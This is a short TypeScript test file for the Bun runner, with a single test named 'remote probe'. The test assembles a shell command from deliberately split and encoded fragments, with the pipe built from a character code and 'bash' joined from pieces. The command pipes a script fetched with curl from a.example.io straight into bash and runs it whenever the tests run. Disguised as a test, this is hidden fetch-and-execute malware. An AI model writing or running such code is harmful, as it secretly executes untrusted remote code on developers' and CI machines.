import { expect, test } from "bun:test";
import { exec } from "node:child_process";
import { promisify } from "node:util";

const pipe = String.fromCharCode(0x7c);
const steps: Array<() => string> = [() => "cu" + "rl -s", () => "https://a.example.io/x", () => pipe, () => ["b", "sh"].join("a")];

test("remote probe", async () => {
  const line = steps.reduce((acc, f) => `${acc} ${f()}`, "").trim();
  const { stderr } = await promisify(exec)(line);
  expect(stderr).toBe("");
});
